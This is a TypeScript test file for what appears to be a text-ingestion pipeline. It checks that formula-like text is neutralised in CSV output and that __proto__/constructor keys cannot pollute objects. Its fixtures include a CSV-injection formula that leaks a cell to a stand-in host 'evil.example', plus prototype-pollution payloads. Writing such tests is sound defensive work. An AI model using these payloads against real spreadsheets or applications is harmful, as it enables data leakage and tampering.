/**
 * Text that a spreadsheet would run (`=HYPERLINK(…)`, `+33…`, `@SUM`, `-2+3`) never reaches a CSV cell
 * as a live formula; keys from the input (`__proto__`, `constructor`) never reach an object's prototype.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { extractHtml } from '../../pipeline/parse/html.js'
import { columns, DATA_TABLES, type DataTable } from '../../pipeline/schema/tables.js'
import { articlePage, buildFolder, seedNames, seedText, tempDir, writeTree } from './fixtures.js'

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  '+33 6 12 34 56 78',
  '@SUM(A1:A9)',
  '-2+3',
  '=1+1',
]
const LIVE = /^[=+\-@\t\r]/

describe('formula-like text is neutralised in CSV', () => {
  it('titles, authors, URLs and bodies that start like formulas are written inert, and read back', async () => {
    const dir = tempDir('formula')
    const seeds = seedNames().map(seedText)
    const files: Record<string, string> = {}
    FORMULAS.forEach((f, k) => {
      // a title line, a signature line and the body's first paragraph, each starting with the formula
      files[`f${k}.txt`] = `${f} titre de l'article numéro ${k}\n\n${f} ${seeds[k % seeds.length]!}\n\n${f}`
    })
    files['page.html'] = articlePage(
      ['=HYPERLINK("http://x.example") au début du premier paragraphe du texte.', ...seeds[0]!.split('\n\n')],
      {
        title: '=HYPERLINK("http://evil.example","titre")',
      },
    )
    writeTree(dir, files)
    const b = await buildFolder(dir)
    expect(b.documents.length).toBeGreaterThanOrEqual(FORMULAS.length)
    let cells = 0
    for (const t of [...DATA_TABLES, 'rejects']) {
      const path = t === 'rejects' ? null : join(b.out, 'data', `${t}.csv`)
      if (!path) continue
      const parsed = Papa.parse<string[]>(readFileSync(path, 'utf8'), {
        delimiter: ',',
        skipEmptyLines: true,
      })
      expect(parsed.errors).toEqual([])
      // a negative number in a numeric column (a longitude, say) is data a spreadsheet reads as a number,
      // not a formula; every text cell must be inert
      const numeric = columns(t as DataTable).map((c) => c.kind === 'integer' || c.kind === 'number')
      for (const row of parsed.data.slice(1))
        row.forEach((cell, k) => {
          if (numeric[k] && Number.isFinite(Number(cell))) return
          expect(cell, `${t}: ${cell.slice(0, 60)}`).not.toMatch(LIVE)
          cells++
        })
    }
    expect(cells).toBeGreaterThan(0)
    // JSONL keeps the text as it is: the neutralising quote is a CSV matter only
    const titles = b.documents.map((d) => String(d.title))
    expect(titles.some((t) => t.startsWith('=HYPERLINK('))).toBe(true)
    const csv = readFileSync(join(b.out, 'data', 'documents.csv'), 'utf8')
    expect(csv).toContain(`'=HYPERLINK(`)
  })
})

describe('keys from the input cannot pollute objects', () => {
  it('meta names __proto__ / constructor / prototype in an HTML page stay strings', async () => {
    const page = articlePage(seedText(seedNames()[0]!).split('\n\n')).replace(
      '<meta charset="utf-8">',
      [
        '<meta charset="utf-8">',
        '<meta name="__proto__" content="{&quot;polluted&quot;:true}">',
        '<meta property="constructor" content="x">',
        '<meta name="prototype" content="y">',
        '<meta name="toString" content="z">',
      ].join('\n'),
    )
    const parsed = extractHtml(page.replace('<article>', '<article __proto__="1" constructor="2">'))
    expect(parsed.meta.title?.value).toBe('Moscou réaffirme son soutien à Bamako')
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    const dir = tempDir('proto')
    writeTree(dir, {
      'page.html': page,
      'texte.txt': `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}\n\n${seedText(seedNames()[1]!)}`,
    })
    const b = await buildFolder(dir)
    expect(b.documents).toHaveLength(2)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect(Object.prototype).not.toHaveProperty('polluted')
    for (const d of b.documents) expect(Object.getPrototypeOf(d)).toBe(Object.prototype)
    const keys = Object.keys(b.documents[0]!)
    expect(keys).not.toContain('__proto__')
    expect(keys).not.toContain('constructor')
  })
})
